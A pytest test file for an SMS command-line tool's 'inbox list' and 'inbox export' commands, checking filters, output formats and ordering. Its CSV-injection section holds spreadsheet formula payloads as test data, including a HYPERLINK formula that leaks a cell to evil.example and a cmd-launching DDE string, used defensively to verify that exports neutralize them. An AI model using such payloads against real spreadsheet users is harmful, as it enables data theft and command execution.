"""`attsms inbox list` and `inbox export`: the local store only, never the service."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from attsms.core.errors import ExitCode
from attsms.core.models import InboundMessage
from attsms.store.inbox import InboxStore, store_path
from tests.helpers.support import Cli

ALICE = "tel:+12125550100"
BOB = "tel:+12125550101"


def _ago(hours: float) -> str:
    return (datetime.now(UTC) - timedelta(hours=hours)).strftime("%Y-%m-%dT%H:%M:%SZ")


@pytest.fixture
def filled(cli: Cli) -> None:
    """Four stored messages: from Alice 50 h and 1 h ago, from Bob 5 h ago (HELP) and now."""
    with InboxStore.open("default") as store:
        store.add_batch(
            "12345",
            [
                InboundMessage("m1", "first", ALICE, "12345", _ago(50)),
                InboundMessage("m2", "HELP", BOB, "12345", _ago(5)),
                InboundMessage("m3", 'quote " comma, tab\tnewline\nend', ALICE, "12345", _ago(1)),
                InboundMessage("m4", "latest", BOB, "12345", _ago(0)),
            ],
        )


def ids(cli: Cli, *args: str) -> list[str]:
    result = cli("inbox", "list", *args, "--json")
    assert result.exit_code == 0, result.stderr
    return [m["message_id"] for m in result.json()]


@pytest.mark.usefixtures("filled")
def test_list_filters_by_since_sender_and_limit(cli: Cli) -> None:
    assert ids(cli) == ["m1", "m2", "m3", "m4"]
    assert ids(cli, "--since", "1d") == ["m2", "m3", "m4"]
    assert ids(cli, "--since", "90m") == ["m3", "m4"]
    since = (datetime.now(UTC) - timedelta(hours=3)).isoformat()
    assert ids(cli, "--since", since) == ["m3", "m4"]
    assert ids(cli, "--from", "(212) 555-0100") == ["m1", "m3"]
    assert ids(cli, "--from", "212.555.0101", "--since", "1d") == ["m2", "m4"]
    assert ids(cli, "--limit", "2") == ["m3", "m4"]  # the newest, still oldest first


@pytest.mark.usefixtures("filled")
def test_list_says_when_it_shows_only_the_newest(cli: Cli) -> None:
    result = cli("inbox", "list", "--limit", "3")
    assert len(result.lines) == 3
    assert result.stderr == "Showing the newest 3 of 4; --limit 0 shows all.\n"
    assert cli("inbox", "list", "--limit", "4").stderr == ""


@pytest.mark.usefixtures("filled")
def test_list_records_carry_the_keyword_and_people_readable_numbers(cli: Cli) -> None:
    records = cli("inbox", "list", "--jsonl").lines
    help_message = json.loads(records[1])
    assert help_message == {
        "message_id": "m2",
        "received_at": help_message["received_at"],
        "from": "+12125550101",
        "to": "12345",
        "text": "HELP",
        "keyword": "help",
    }
    plain = cli("inbox", "list").lines[2].split("\t")
    assert plain[1:] == ["+12125550100", "m3", 'quote " comma, tab newline end']


def test_list_with_no_store_says_so_and_creates_nothing(cli: Cli) -> None:
    result = cli("inbox", "list")
    assert (result.exit_code, result.stdout) == (0, "")
    assert result.stderr == "No messages stored yet.\n"
    assert not store_path("default").exists()


@pytest.mark.parametrize(
    ("args", "needle"),
    [
        (["--since", "yesterday"], "not a date or duration: 'yesterday'"),
        (["--from", "banana"], "banana"),
        (["--limit", "-1"], "--limit"),
        (["--json", "--jsonl"], "give one output format"),
    ],
)
def test_list_bad_input_is_exit_2(cli: Cli, args: list[str], needle: str) -> None:
    result = cli("inbox", "list", *args)
    assert result.exit_code == ExitCode.USAGE
    assert needle in result.stderr


@pytest.mark.usefixtures("filled")
def test_list_reads_the_active_profiles_store_only(cli: Cli, isolated_home: Path) -> None:
    (isolated_home / "config").mkdir(parents=True, exist_ok=True)
    (isolated_home / "config" / "config.toml").write_text('[profiles.work]\nclient_id = "w"\n')
    result = cli("--profile", "work", "inbox", "list", "--json")
    assert (result.exit_code, result.json()) == (0, [])
    assert cli("--sandbox", "inbox", "list", "--json").json() == []


@pytest.mark.usefixtures("filled")
def test_export_jsonl_is_every_message_whole(cli: Cli) -> None:
    result = cli("inbox", "export")
    assert result.exit_code == 0
    records = [json.loads(line) for line in result.lines]
    assert [r["message_id"] for r in records] == ["m1", "m2", "m3", "m4"]
    assert records[2]["text"] == 'quote " comma, tab\tnewline\nend'
    assert set(records[0]) == {
        "message_id",
        "registration_id",
        "received_at",
        "stored_at",
        "from",
        "to",
        "text",
        "keyword",
    }
    assert result.stderr == "Exported 4 messages.\n"


@pytest.mark.usefixtures("filled")
def test_export_csv_round_trips_awkward_text(cli: Cli) -> None:
    result = cli("inbox", "export", "--format", "csv")
    assert result.exit_code == 0
    rows = list(csv.DictReader(io.StringIO(result.stdout, newline="")))
    assert [r["message_id"] for r in rows] == ["m1", "m2", "m3", "m4"]
    assert rows[2]["text"] == 'quote " comma, tab\tnewline\nend'
    assert (rows[1]["keyword"], rows[0]["keyword"]) == ("help", "")


@pytest.mark.usefixtures("filled")
def test_export_json_is_one_document(cli: Cli) -> None:
    document = cli("inbox", "export", "--json").json()
    assert [r["message_id"] for r in document] == ["m1", "m2", "m3", "m4"]


@pytest.mark.usefixtures("filled")
@pytest.mark.parametrize(
    "argv",
    [
        ("inbox", "export", "--format", "csv", "--json"),
        ("inbox", "export", "--json", "--format", "csv"),
        ("inbox", "export", "--json", "--format", "jsonl"),
    ],
)
def test_export_refuses_a_format_and_json_together(cli: Cli, argv: tuple[str, ...]) -> None:
    result = cli(*argv)
    assert result.exit_code == ExitCode.USAGE, result
    assert result.stdout == ""
    assert len(result.stderr.splitlines()) == 1, result.stderr
    assert "--format" in result.stderr and "--json" in result.stderr


def test_export_with_no_store_is_empty(cli: Cli) -> None:
    result = cli("inbox", "export", "--format", "csv")
    assert result.exit_code == 0
    assert result.lines == ["message_id,registration_id,received_at,stored_at,from,to,text,keyword"]


@pytest.mark.parametrize(
    "command",
    [["inbox", "pull"], ["inbox", "list"], ["inbox", "export"], ["optout", "add"]],
)
def test_help_loads_no_database_lock_or_http_module(command: list[str]) -> None:
    import subprocess
    import sys

    script = (
        "import sys, io\n"
        "from attsms.cli.main import main\n"
        "sys.stdout = io.StringIO()\n"
        f"main({[*command, '--help']!r})\n"
        "heavy = ('httpx', 'rich', 'keyring', 'phonenumbers', 'sqlite3', 'filelock')\n"
        "sys.__stdout__.write(' '.join(m for m in heavy if m in sys.modules))\n"
    )
    loaded = subprocess.run(
        [sys.executable, "-c", script], capture_output=True, text=True, check=True
    ).stdout
    assert loaded == ""


# --- spreadsheet formulas in CSV (OWASP CSV injection) -------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your refund")',
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]
HARMLESS = ["plain text", "'already quoted", " =1+1 after a space", "+12125550100", "1+1"]


def test_export_csv_neutralizes_formulas_and_keeps_phone_numbers(
    cli: Cli, sandbox_http: Any, use_server: Any
) -> None:
    server = sandbox_http()
    for text in FORMULAS + HARMLESS:
        server.inject("+12125550100", text)
    use_server(server)
    assert cli("inbox", "pull", "12345", "-q").exit_code == 0

    result = cli("inbox", "export", "--format", "csv")
    assert result.exit_code == 0, result.stderr
    rows = list(csv.DictReader(io.StringIO(result.stdout, newline="")))
    assert [r["text"] for r in rows] == [f"'{t}" for t in FORMULAS] + HARMLESS
    assert {r["from"] for r in rows} == {"+12125550100"}  # a number is not a formula: kept
    for row in rows:
        assert not any(cell[:1] in ("=", "-", "@", "\t", "\r") for cell in row.values())

    # JSON lines stay the faithful backup.
    exported = [json.loads(line)["text"] for line in cli("inbox", "export").lines]
    assert exported == FORMULAS + HARMLESS


def test_export_help_says_how_csv_cells_are_neutralized(cli: Cli) -> None:
    shown = " ".join(cli("inbox", "export", "--help").stdout.split())
    assert "single quote" in shown and "formula" in shown


@pytest.mark.parametrize("page", [1, 3, 1000])
def test_list_and_export_read_a_page_at_a_time_and_print_what_one_read_would(
    cli: Cli, monkeypatch: pytest.MonkeyPatch, page: int
) -> None:
    # Piped and --json, messages are read a page at a time and written as they come; whatever
    # the page, the output is what one read of them all gives, --limit and filters included.
    import attsms.store.inbox as stored

    with InboxStore.open("default") as store:
        store.add_batch(
            "12345",
            [
                InboundMessage(f"m{n}", f"text {n}", ALICE if n % 2 else BOB, "12345", _ago(20 - n))
                for n in range(10)
            ],
        )
    every = [f"m{n}" for n in range(10)]
    monkeypatch.setattr(stored, "PAGE_MESSAGES", page)
    assert ids(cli, "--limit", "0") == every
    assert ids(cli, "--limit", "4") == every[-4:]
    assert ids(cli, "--limit", "1999999999999999999999") == every
    assert ids(cli, "--from", ALICE, "--limit", "2") == ["m7", "m9"]
    assert ids(cli, "--since", "810m", "--limit", "0") == every[7:]  # 13.5 hours
    plain = cli("inbox", "list", "--limit", "3")
    assert [line.split("\t")[2] for line in plain.lines] == every[-3:]  # MESSAGE ID
    assert "Showing the newest 3 of 10" in plain.stderr
    lines = cli("inbox", "list", "--limit", "0", "--jsonl").lines
    assert [json.loads(line)["message_id"] for line in lines] == every
    exported = cli("inbox", "export", "--json")
    assert [m["message_id"] for m in exported.json()] == every
    assert "Exported 10 messages." in exported.stderr
    nothing = cli("inbox", "list", "--from", "+12125550199", "--json")
    assert nothing.stdout == "[]\n" and "No stored message matches." in nothing.stderr


def test_list_is_oldest_first_by_the_messages_own_time_not_the_store_time(
    cli: Cli, backend: str
) -> None:
    # Pushes and pulls arrive in any order: a message sent 5 h ago may be stored after one sent
    # 1 h ago. "Oldest first" is the person's time; equal times by message id.
    from attsms import store as stores
    from tests.helpers.support import store_settings

    with stores.open_inbox(store_settings(), "default") as store:
        store.add_batch(
            "12345",
            [
                InboundMessage("m-b", "one hour, b", ALICE, "12345", _ago(1)),
                InboundMessage("m-a", "one hour, a", BOB, "12345", _ago(1)),
                InboundMessage("m-now", "now", ALICE, "12345", _ago(0)),
            ],
        )
        store.add_batch("12345", [InboundMessage("m-old", "five hours", BOB, "12345", _ago(5))])
    order = ["m-old", "m-a", "m-b", "m-now"]
    assert ids(cli) == order
    assert ids(cli, "--limit", "0") == order
    assert ids(cli, "--limit", "2") == order[-2:]  # the newest two, still oldest first
    assert ids(cli, "--limit", "3") == order[-3:]
    assert ids(cli, "--from", BOB) == ["m-old", "m-a"]
    assert ids(cli, "--since", "3h") == order[1:]
    # export is the backup: every message in the order it was stored.
    exported = [json.loads(line)["message_id"] for line in cli("inbox", "export").lines]
    assert exported == ["m-b", "m-a", "m-now", "m-old"]
